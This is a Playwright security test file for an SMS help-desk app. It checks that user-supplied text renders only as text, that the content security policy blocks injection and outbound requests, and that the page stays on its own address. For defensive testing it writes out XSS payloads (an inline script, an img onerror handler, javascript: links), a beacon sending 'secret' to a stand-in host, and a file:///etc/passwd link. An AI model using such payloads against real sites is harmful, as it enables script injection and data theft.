import { once } from 'node:events'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { BrowserContext, Page } from '@playwright/test'
import { ana, expect, openConversation, setUp, test, withSandbox } from './desk'
import { hostile } from './hostile'
import type { Hub } from './hub'

declare global {
  interface Window {
    taken?: unknown
    broken?: string[]
  }
}

/** A server of somebody else, as far as the page can tell, that notes who calls it. */
const elsewhere = async (answer: (request: IncomingMessage) => [status: number, body: string] = () => [200, '{}']) => {
  const calls: string[] = []
  const server: Server = createServer((request, response) => {
    calls.push(`${request.method} ${request.url}`)
    const [status, body] = answer(request)
    response.writeHead(status, { 'content-type': 'application/json', 'access-control-allow-origin': '*' }).end(body)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return { calls, server, address: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
}

/** Nothing that somebody wrote became more than text. */
const untouched = async (page: Page, where: string) => {
  expect(await page.evaluate(() => window.taken), `a script ran on ${where}`).toBeUndefined()
  await expect(page.locator('[data-taken]'), `an element was made on ${where}`).toHaveCount(0)
}

const grace = '+15035550189'

/** As many texts of each customer as a conversation shows at once. */
const halves = [
  [ana, hostile.slice(0, hostile.length / 2)],
  [grace, hostile.slice(hostile.length / 2)],
] as const

/** One of the corpus for each place that holds what somebody wrote. */
const fill = async (hub: Hub, page: Page) => {
  const { account, number } = await withSandbox(page, hub)
  const write = (place: number) => hostile[place % hostile.length]
  const conversations: string[] = []
  for (const [customer, texts] of halves) {
    const { id } = await hub.rpc<{ id: string }>('Inbox/Start', number.id, customer)
    for (const text of texts) await hub.rpc('Sandbox/Answer', customer, number.phoneNumber, text)
    const arrived = () => hub.rpc<{ items: unknown[] }>('Inbox/Thread', id, { at: '', before: '', after: '' })
    await expect.poll(async () => (await arrived()).items.length).toBe(texts.length)
    await hub.rpc('Inbox/Rename', id, write(conversations.length))
    await hub.rpc('Inbox/MarkThreadRead', id) // so that it opens at its newest text
    conversations.push(id)
  }
  await hub.rpc('Inbox/AddNote', conversations[0], write(2))
  const phones = (at: number) => [{ number: `+1415555${1000 + at}`, label: 'mobile' }]
  let customer = { id: '' }
  for (const [at, text] of hostile.entries()) {
    customer = await hub.rpc(
      'Customers/Create',
      {
        kind: 'contact',
        name: text,
        company: write(at + 1),
        email: '',
        notes: write(at + 2),
        zone: '',
        language: '',
        phones: phones(at),
      },
      '',
    )
  }
  await hub.rpc('Templates/Save', {
    id: '',
    name: write(1),
    shared: true,
    category: 'contact',
    language: 'en',
    body: write(3),
    placeholders: [],
  })
  await hub.rpc('People/SaveTeam', '', write(4), [])
  await hub.rpc('People/Invite', { name: write(9), role: 'salesperson', teams: [] })
  await hub.rpc('Session/SaveBusiness', write(2), 'US')
  await hub.rpc('Bulk/Save', {
    id: '',
    name: write(10),
    numberId: number.id,
    templateId: '',
    category: 'contact',
    body: write(13),
    placeholders: [],
  })
  await hub.rpc('OptOuts/OptOut', '+14155550177', write(1))
  await hub.rpc('Numbers/Update', number.id, {
    accountId: account.id,
    phoneNumber: number.phoneNumber,
    name: write(1),
    type: '',
    owners: [],
    maySend: true,
    mayReceive: true,
    defaultCountry: 'US',
  })
  return { account, conversations, customer }
}

test('security 12: whatever somebody writes is shown as text, on every page', async ({ page, hub }) => {
  test.setTimeout(180_000)
  page.on('dialog', (dialog) => {
    throw new Error(`a script opened a dialog: ${dialog.message()}`)
  })
  const { account, conversations, customer } = await fill(hub, page)
  const visit = async (path: string, shows: string | undefined) => {
    await page.goto(`${hub.address}/#/${path}`)
    if (shows) await expect(page.getByText(shows).first(), path).toBeVisible()
    else await expect(page.getByRole('main')).toBeVisible()
    await untouched(page, path)
  }

  for (const [place, [, texts]] of halves.entries()) {
    await visit(`inbox/${conversations[place]}`, texts.at(-1))
    for (const text of texts.toReversed()) {
      const bubble = page.getByRole('article').filter({ hasText: text }).first()
      // a row may be taken out and put in again while the list scrolls
      await expect(() => bubble.scrollIntoViewIfNeeded({ timeout: 2_000 })).toPass()
      await expect(bubble).toBeVisible()
    }
    await untouched(page, 'the conversation')
  }
  await visit('customers', hostile[0])
  await visit(`customers/${customer.id}`, hostile.at(-1))
  await visit('settings/numbers', hostile[1])
  await visit('settings/people', undefined)
  await visit('settings/personal/templates', hostile[1])
  await visit('bulk', hostile[10])
  await visit('settings/activity', undefined)
  for (const path of ['phones', 'reports', 'scheduled', 'settings/opt-outs', 'settings/answers', 'settings/health']) {
    await visit(path, undefined)
  }
  await visit(`settings/providers/${account.id}`, undefined)

  await page.goto(`${hub.address}/#/customers/import`)
  await page.getByLabel('File with customers').setInputFiles({
    name: `${hostile[1].replaceAll('/', '')}.csv`,
    mimeType: 'text/csv',
    buffer: Buffer.from(`Name,Mobile\n"${hostile[1].replaceAll('"', '""')}",+14155550188\n`),
  })
  await expect(page.getByText(hostile[1]).first()).toBeVisible()
  await untouched(page, 'the import')
})

test.describe('a provider that answers with markup', () => {
  let twilio: Awaited<ReturnType<typeof elsewhere>>
  test.beforeAll(async () => {
    const body = JSON.stringify({ code: 21211, message: hostile[1], more_info: hostile[5], status: 400 })
    twilio = await elsewhere(() => [400, body])
  })
  test.afterAll(() => twilio.server.close())
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads from the pattern what a fixture needs: nothing
  test.use({ hubEnv: async ({}, use) => use({ SMSDESK_API_TWILIO: twilio.address }) })

  test('security 12: an error of a provider is shown as text', async ({ page, hub }) => {
    await setUp(page, hub)
    await hub.signIn()
    await hub.rpc('Setup/Accept', 'twilio', ['privacy', 'opt_out_handling'])
    const { id } = await hub.rpc<{ id: string }>('Setup/Begin', 'twilio', false)
    await hub.rpc('Setup/Save', id, {
      name: hostile[0],
      description: hostile[2],
      fields: { account_sid: `AC${'0'.repeat(32)}` },
      secrets: { auth_token: '0'.repeat(32) },
    })
    const added = { accountId: id, phoneNumber: '+14155550100', name: hostile[4], type: '', owners: [] }
    const number = await hub.rpc<{ id: string }>('Numbers/Add', {
      ...added,
      maySend: true,
      mayReceive: true,
      defaultCountry: 'US',
    })
    await hub.rpc('Setup/Finish', id)
    await openConversation(page, hub, number.id, ana)
    await page.getByRole('textbox', { name: 'Text', exact: true }).fill('Is Friday still ok?')
    await page.keyboard.press('Enter')
    await expect(
      page
        .getByRole('article')
        .getByText(/failed/i)
        .first(),
    ).toBeVisible()
    await untouched(page, 'the failed text')
    for (const path of ['settings/health', 'settings/providers', `settings/providers/${id}`, 'settings/activity']) {
      await page.goto(`${hub.address}/#/${path}`)
      await page.reload()
      await expect(page.getByRole('main')).toBeVisible()
      await untouched(page, path)
    }
  })
})

/** The page as somebody has it who got hold of it: what its policy refuses is noted, not a fault of the test. */
const taken = async (context: BrowserContext, hub: Hub): Promise<Page> => {
  const page = await context.newPage()
  await page.goto(hub.address)
  await expect(page.locator('#root')).not.toBeEmpty()
  await page.evaluate(() => {
    window.broken = []
    document.addEventListener('securitypolicyviolation', (event) => window.broken?.push(event.effectiveDirective))
  })
  return page
}

/** Each way to run a script or to reach another host, and the directive of the policy that stops it. */
const attempts: [what: string, directive: string, attempt: (other: string) => unknown][] = [
  [
    'a script in the page',
    'script-src-elem',
    () => {
      const script = document.createElement('script')
      script.textContent = 'window.taken = 1'
      document.body.append(script)
    },
  ],
  [
    'a script of another host',
    'script-src-elem',
    (other) => {
      const script = document.createElement('script')
      script.src = `${other}/x.js`
      document.body.append(script)
    },
  ],
  [
    'a handler in markup',
    'script-src-attr',
    () => document.body.insertAdjacentHTML('beforeend', '<img src="/nothing.png" onerror="window.taken = 1">'),
  ],
  [
    'eval',
    'script-src',
    // from a timer: what the test itself evaluates may do more than the page
    () => setTimeout(() => new Function('window.taken = 1')(), 0),
  ],
  [
    'a style in markup',
    'style-src-attr',
    () => document.body.insertAdjacentHTML('beforeend', '<p style="color: red">x</p>'),
  ],
  [
    'a style sheet in the page',
    'style-src-elem',
    () => document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>'),
  ],
  [
    'a style sheet of another host',
    'style-src-elem',
    (other) => document.head.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${other}/x.css">`),
  ],
  [
    'a picture of another host',
    'img-src',
    (other) => document.body.insertAdjacentHTML('beforeend', `<img src="${other}/x.png">`),
  ],
  ['a call to another host', 'connect-src', (other) => void fetch(`${other}/x`).catch(() => undefined)],
  [
    'a beacon to another host',
    'connect-src',
    (other) => {
      try {
        navigator.sendBeacon(`${other}/x`, 'secret')
      } catch {}
    },
  ],
  [
    'a socket to another host',
    'connect-src',
    (other) => {
      try {
        new WebSocket(other.replace('http', 'ws'))
      } catch {}
    },
  ],
  [
    'a frame',
    'frame-src',
    (other) => document.body.insertAdjacentHTML('beforeend', `<iframe src="${other}/x"></iframe>`),
  ],
  [
    'an object',
    'object-src',
    (other) => document.body.insertAdjacentHTML('beforeend', `<object data="${other}/x"></object>`),
  ],
  [
    'a form',
    'form-action',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<form action="/x" method="post"><input name="a"></form>')
      document.forms[document.forms.length - 1]?.submit()
    },
  ],
  ['another base', 'base-uri', (other) => document.head.insertAdjacentHTML('beforeend', `<base href="${other}/">`)],
  [
    'a font of another host',
    'font-src',
    (other) => void new FontFace('x', `url(${other}/x.woff2)`).load().catch(() => undefined),
  ],
]

test('security 13: the policy stops every way to run a script or to reach another host', async ({ context, hub }) => {
  const other = await elsewhere()
  try {
    const page = await taken(context, hub)
    for (const [what, directive, attempt] of attempts) {
      await page.evaluate(() => window.broken?.splice(0))
      await page.evaluate(attempt as (other: string) => void, other.address)
      await expect.poll(() => page.evaluate(() => window.broken), { message: what }).toContain(directive)
      expect(await page.evaluate(() => window.taken), what).toBeUndefined()
      expect(page.url(), what).toMatch(new RegExp(`^${hub.address}/`))
      expect(await page.evaluate(() => document.baseURI), what).toMatch(new RegExp(`^${hub.address}/`))
    }
    expect(other.calls).toEqual([])
  } finally {
    other.server.close()
  }
})

test('security 13: a javascript: link runs nothing', async ({ context, hub }) => {
  const page = await taken(context, hub)
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('afterbegin', '<a class="bait" href="javascript:window.taken=1">here</a>')
    document.querySelector<HTMLElement>('.bait')?.click()
    location.href = 'javascript:window.taken=1'
  })
  await page.evaluate(() => new Promise((done) => setTimeout(done, 0)))
  expect(await page.evaluate(() => window.taken)).toBeUndefined()
})

/** Each way out of the app's own address. */
const ways: [what: string, go: (other: string) => unknown][] = [
  [
    'a link',
    (other) => {
      document.body.insertAdjacentHTML('afterbegin', `<a class="bait" href="${other}/out">here</a>`)
      document.querySelector<HTMLElement>('.bait')?.click()
    },
  ],
  [
    'a link to a new window',
    (other) => {
      document.body.insertAdjacentHTML('afterbegin', `<a class="bait" target="_blank" href="${other}/out">here</a>`)
      document.querySelector<HTMLElement>('.bait')?.click()
    },
  ],
  ['another location', (other) => location.assign(`${other}/out`)],
  ['another location in its place', (other) => location.replace(`${other}/out`)],
  ['a window', (other) => window.open(`${other}/out`)],
  [
    'a refresh',
    (other) =>
      document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${other}/out">`),
  ],
  [
    'a dropped link',
    (other) => {
      const carried = new DataTransfer()
      carried.setData('text/uri-list', `${other}/out`)
      for (const type of ['dragover', 'drop']) {
        const event = new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: carried })
        if (document.body.dispatchEvent(event)) window.taken = `${type} was left to the browser`
      }
    },
  ],
  [
    'a dropped file',
    () => {
      const carried = new DataTransfer()
      carried.items.add(new File(['<script>window.taken=1</script>'], 'x.html', { type: 'text/html' }))
      for (const type of ['dragover', 'drop']) {
        const event = new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: carried })
        if (document.body.dispatchEvent(event)) window.taken = `${type} was left to the browser`
      }
    },
  ],
]

test('security 14: nothing leads the page away from its own address', async ({ context, hub }) => {
  const other = await elsewhere()
  try {
    const page = await taken(context, hub)
    const before = context.pages().length
    for (const [what, go] of ways) {
      await page.evaluate(go as (other: string) => void, other.address)
      // whatever was begun has happened once the page has asked its own server for something
      await page.evaluate(() => fetch('/session').then(() => new Promise((done) => setTimeout(done, 50))))
      expect(page.url(), what).toMatch(new RegExp(`^${hub.address}/`))
      expect(await page.evaluate(() => window.taken), what).toBeUndefined()
      expect(context.pages().length, what).toBe(before)
    }
    expect(other.calls).toEqual([])
  } finally {
    other.server.close()
  }
})

test('security 14: a link of a text opens outside, and only what may be opened', async ({ page, hub, context }) => {
  const { number } = await withSandbox(page, hub)
  const other = await elsewhere()
  await hub.rpc(
    'Sandbox/Answer',
    ana,
    number.phoneNumber,
    `See ${other.address.replace('127.0.0.1', 'sms.localhost')}/menu`,
  )
  await openConversation(page, hub, number.id, ana)
  const popup = context.waitForEvent('page')
  await page.getByRole('article').getByRole('button', { name: /menu/ }).click()
  const opened = await popup
  expect(await opened.evaluate(() => window.opener)).toBeNull()
  for (const address of ['javascript:window.taken=1', 'data:text/html,x', 'file:///etc/passwd', 'vbscript:x']) {
    await page.evaluate((link) => {
      const { runtime } = window as unknown as { runtime: { BrowserOpenURL: (address: string) => void } }
      runtime.BrowserOpenURL(link)
    }, address)
  }
  expect(context.pages()).toHaveLength(2)
  expect(await page.evaluate(() => window.taken)).toBeUndefined()
  other.server.close()
})
